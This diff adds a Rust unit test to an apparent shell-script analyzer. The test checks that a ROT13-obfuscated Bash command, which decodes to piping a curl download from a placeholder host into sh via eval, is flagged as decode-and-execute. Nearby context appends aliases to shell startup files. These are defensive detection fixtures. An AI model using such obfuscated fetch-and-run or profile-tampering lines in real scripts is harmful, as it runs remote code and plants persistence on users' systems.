@@ -291,6 +291,23 @@ fn host_identity_sent_out_is_exfiltration() {
 }
 
 #[test]
+fn rot13_with_tr_is_a_decoder() {
+    let src =
+        "C=$(echo 'phey -s uggc://k.vainyvq/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$C\"\n";
+    script_has(src, Dialect::Bash, K::DecodeExecute);
+    // Changing case is not decoding.
+    let case = analyze_script(
+        "N=$(echo \"$1\" | tr 'a-z' 'A-Z')\neval \"echo $N\"\n",
+        Dialect::Bash,
+    );
+    assert!(
+        !kinds(&case).contains(&K::DecodeExecute),
+        "{:?}",
+        details(&case)
+    );
+}
+
+#[test]
 fn for_loops_name_the_files_their_body_writes() {
     let rc =
         "for rc in \"$HOME/.bashrc\" \"$HOME/.zshrc\"; do\n  echo 'alias ls=x' >> \"$rc\"\ndone\n";
